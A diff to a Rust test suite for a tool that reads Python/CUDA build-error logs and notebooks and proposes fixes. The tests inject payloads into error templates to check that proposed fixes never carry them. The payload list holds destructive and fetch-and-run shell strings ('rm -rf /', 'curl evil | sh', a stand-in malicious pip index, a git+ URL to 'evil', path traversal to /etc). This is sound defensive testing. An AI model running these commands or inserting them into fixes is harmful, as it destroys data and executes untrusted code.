@@ -29,35 +29,35 @@ struct Payload {
 const PAYLOADS: &[Payload] = &[
     Payload {
         text: "; rm -rf ~",
-        marks: &["rm -rf ~", ";"],
+        marks: &["rm -rf", ";"],
     },
     Payload {
         text: "$(curl x)",
-        marks: &["$(", "curl"],
+        marks: &["$(", "curl x"],
     },
     Payload {
         text: "`curl evil`",
-        marks: &["`", "curl"],
+        marks: &["`", "curl evil"],
     },
     Payload {
         text: "x\nrm -rf /",
-        marks: &["rm -rf /"],
+        marks: &["rm -rf"],
     },
     Payload {
         text: " --index-url=http://evil",
-        marks: &["--index-url=http://evil", "evil"],
+        marks: &["--index-url=http://evil", "://evil"],
     },
     Payload {
         text: " -e git+https://evil/x",
-        marks: &["git+", "evil"],
+        marks: &["git+", "://evil", "-e "],
     },
     Payload {
         text: "torch; rm -rf /",
-        marks: &["torch;", "rm -rf /"],
+        marks: &["torch;", "rm -rf"],
     },
     Payload {
         text: "torch && curl evil | sh",
-        marks: &["&&", "| sh", "evil"],
+        marks: &["&&", "| sh", "curl evil"],
     },
     // Cyrillic 'о' and 'с' in place of Latin letters.
     Payload {
@@ -66,7 +66,7 @@ const PAYLOADS: &[Payload] = &[
     },
     Payload {
         text: "../../../../etc",
-        marks: &["../"],
+        marks: &["../", "/etc"],
     },
     Payload {
         text: "my dir/$HOME/x",
@@ -138,7 +138,7 @@ const TEMPLATES: &[(&str, &str)] = &[
     ),
     (
         "libcuda-not-found",
-        "/usr/bin/ld: cannot find -lcuda{P}\ncollect2: error: ld returned 1 exit status\nsubprocess.CalledProcessError: Command '['/usr/bin/gcc', '/tmp/{P}/main.c', '-lcuda']' returned non-zero exit status 1.\n",
+        "  0%|          | 0/151 [00:00<?, ?it/s]/usr/bin/ld: cannot find -lcuda: No such file or directory\ncollect2: error: ld returned 1 exit status\nsubprocess.CalledProcessError: Command '['/usr/bin/gcc', '/tmp/{P}/cuda_utils.c', '-O3', '-shared', '-fPIC', '-o', '/tmp/{P}/cuda_utils.so', '-lcuda', '-L/home/{P}/lib/python3.11/site-packages/triton/backends/nvidia/lib', '-L/usr/lib/x86_64-linux-gnu']' returned non-zero exit status 1.\n",
     ),
     (
         "no-c-compiler",
@@ -205,6 +205,8 @@ const KNOWN_FLAGS: &[&str] = &[
     "--format",
     "--force",
     "--override-channels",
+    "-sf",
+    "--query-compute-apps",
 ];
 
 /// Index URLs a fix may point pip at: the official torch indexes and PyPI only.
@@ -212,6 +214,39 @@ fn allowed_url(s: &str) -> bool {
     s.starts_with("https://download.pytorch.org/whl/")
         || s.starts_with("https://pypi.org/")
         || s.starts_with("https://data.pyg.org/whl/")
+}
+
+/// Runs a diagnosis, turning a panic into a reported violation so one run lists every problem.
+fn guarded(
+    what: &str,
+    f: impl FnOnce() -> Vec<Diagnostic>,
+    bad: &mut Vec<String>,
+) -> Vec<Diagnostic> {
+    match std::panic::catch_unwind(std::panic::AssertUnwindSafe(f)) {
+        Ok(d) => d,
+        Err(e) => {
+            let msg = e
+                .downcast_ref::<String>()
+                .cloned()
+                .or_else(|| e.downcast_ref::<&str>().map(|s| (*s).to_owned()))
+                .unwrap_or_default();
+            bad.push(format!("{what}: PANIC {}", short(&msg)));
+            Vec::new()
+        }
+    }
+}
+
+/// A string cut for a readable failure message.
+fn short(s: &str) -> String {
+    if s.chars().count() > 160 {
+        format!(
+            "{}…({} bytes)",
+            s.chars().take(160).collect::<String>(),
+            s.len()
+        )
+    } else {
+        s.to_owned()
+    }
 }
 
 /// Every string a fix hands to a shell, the environment or a notebook.
@@ -248,7 +283,12 @@ fn violations(diags: &[Diagnostic], marks: &[&str]) -> Vec<String> {
             for (what, s) in fix_strings(f) {
                 for m in marks {
                     if s.contains(m) {
-                        bad.push(format!("[{}] {what} {s:?} contains {m:?}", d.code.as_str()));
+                        bad.push(format!(
+                            "[{}] {what} {:?} contains {:?}",
+                            d.code.as_str(),
+                            short(s),
+                            short(m)
+                        ));
                     }
                 }
                 if s.contains('\n') && what != "notebook_cell" || s.contains('\r') {
@@ -323,10 +363,11 @@ fn violations(diags: &[Diagnostic], marks: &[&str]) -> Vec<String> {
                                 d.code.as_str()
                             ));
                         }
-                        if let Some((_, v)) = a.split_once('=') {
-                            if v.contains("://") && !allowed_url(v) {
-                                bad.push(format!("[{}] index {v:?}", d.code.as_str()));
-                            }
+                        if let Some((_, v)) = a.split_once('=')
+                            && v.contains("://")
+                            && !allowed_url(v)
+                        {
+                            bad.push(format!("[{}] index {v:?}", d.code.as_str()));
                         }
                     } else if prev.ends_with("index-url") || prev == "--find-links" || prev == "-f"
                     {
@@ -354,7 +395,7 @@ fn violations(diags: &[Diagnostic], marks: &[&str]) -> Vec<String> {
 
 /// A notebook whose one code cell failed with `text` as its traceback.
 fn notebook_with(text: &str) -> String {
-    let lines: Vec<serde_json::Value> = text.lines().map(|l| l.into()).collect();
+    let lines: Vec<serde_json::Value> = text.lines().map(std::convert::Into::into).collect();
     serde_json::json!({
         "nbformat": 4, "nbformat_minor": 5, "metadata": {},
         "cells": [{
@@ -404,21 +445,40 @@ fn injected_text_never_reaches_a_fix() {
     let mut bad = Vec::new();
     let mut fixes_seen = 0usize;
     for (name, t) in TEMPLATES {
+        let benign = t.replace("{P}", "mamba_ssm");
+        let baseline: String = diagnose_text(&benign, &ctx())
+            .iter()
+            .flat_map(|d| &d.fixes)
+            .flat_map(|f| fix_strings(f).into_iter().map(|(_, s)| s.to_owned()))
+            .collect::<Vec<_>>()
+            .join("\n");
         for p in PAYLOADS {
             let text = t.replace("{P}", p.text);
-            let diags = diagnose_text(&text, &ctx());
+            let label = format!("{name} / {:?}", p.text);
+            // A mark that abidoc's own fix for the benign text already contains (the `&&` of its
+            // `mkdir -p … && ln -sf …` cell) is not injected.
+            let marks: Vec<&str> = p
+                .marks
+                .iter()
+                .copied()
+                .filter(|m| !baseline.contains(m))
+                .collect();
+            let marks = &marks[..];
+            let diags = guarded(&label, || diagnose_text(&text, &ctx()), &mut bad);
             fixes_seen += diags.iter().map(|d| d.fixes.len()).sum::<usize>();
-            for v in violations(&diags, p.marks) {
-                bad.push(format!("{name} / {:?} (log): {v}", p.text));
+            for v in violations(&diags, marks) {
+                bad.push(format!("{label} (log): {v}"));
             }
-            let nb = diagnose_notebook(&notebook_with(&text), &ctx());
-            for v in violations(&nb, p.marks) {
-                bad.push(format!("{name} / {:?} (notebook): {v}", p.text));
+            let raw = notebook_with(&text);
+            let nb = guarded(&label, || diagnose_notebook(&raw, &ctx()), &mut bad);
+            for v in violations(&nb, marks) {
+                bad.push(format!("{label} (notebook): {v}"));
             }
             // Quoted the way a log repr or a pytest `E` line shows it.
             let quoted = format!("E   {}", text.replace('\n', "\nE   "));
-            for v in violations(&diagnose_text(&quoted, &ctx()), p.marks) {
-                bad.push(format!("{name} / {:?} (pytest): {v}", p.text));
+            let diags = guarded(&label, || diagnose_text(&quoted, &ctx()), &mut bad);
+            for v in violations(&diags, marks) {
+                bad.push(format!("{label} (pytest): {v}"));
             }
         }
     }
@@ -475,6 +535,38 @@ fn real_corpus_fixes_keep_the_invariants() {
     }
     assert!(n >= 40, "only {n} corpus files read");
     assert!(bad.is_empty(), "{}", bad.join("\n"));
+}
+
+// ---------------------------------------------------------------- regressions (found by the tests below)
+
+/// Found by `scan_spans_lie_in_the_text`: an exception name right after a multi-byte character
+/// made the scanner slice inside that character (scan.rs, exception-name start).
+#[test]
+fn regression_exception_after_multibyte_char() {
+    for text in [
+        "\u{11d6a}ImportError: /x/site-packages/mamba_ssm/_C.so: undefined symbol: _ZN3c104cuda9SetDeviceEi\n",
+        "p/\u{16b51}\u{113c2}=\u{113b8}\"\u{11d7d}ImportError: x\n",
+        "éValueError: x\n",
+    ] {
+        let parse = abidoc_syntax::scan(text);
+        for ev in &parse.value {
+            assert!(text.is_char_boundary(ev.span.start) && text.is_char_boundary(ev.span.end));
+        }
+        let _ = diagnose_text(text, &ctx());
+    }
+}
+
+/// Found by `injected_text_never_reaches_a_fix`: a version followed by a multi-byte character
+/// made the scanner slice inside it while looking for the word `version`.
+#[test]
+fn regression_version_followed_by_multibyte_char() {
+    for text in [
+        "RuntimeError:\nThe detected CUDA version (12.1) mismatches the version that was used to compile\nPyTorch (11.8t\u{043e}r\u{0441}h). Please make sure to use the same CUDA versions.\n",
+        "A module that was compiled using NumPy 1.x cannot be run in\nNumPy 2.0.0t\u{043e}r\u{0441}h as it may crash.\n",
+        "CUDA \u{00e9}\u{00e9}\u{00e9}\u{00e9}\n",
+    ] {
+        let _ = diagnose_text(text, &ctx());
+    }
 }
 
 // ---------------------------------------------------------------- notebook edits keep bytes
@@ -560,7 +652,7 @@ fn logish() -> impl Strategy<Value = String> {
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig { cases: 256, .. ProptestConfig::default() })]
+    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, .. ProptestConfig::default() })]
 
     #[test]
     fn scan_spans_lie_in_the_text(text in logish()) {
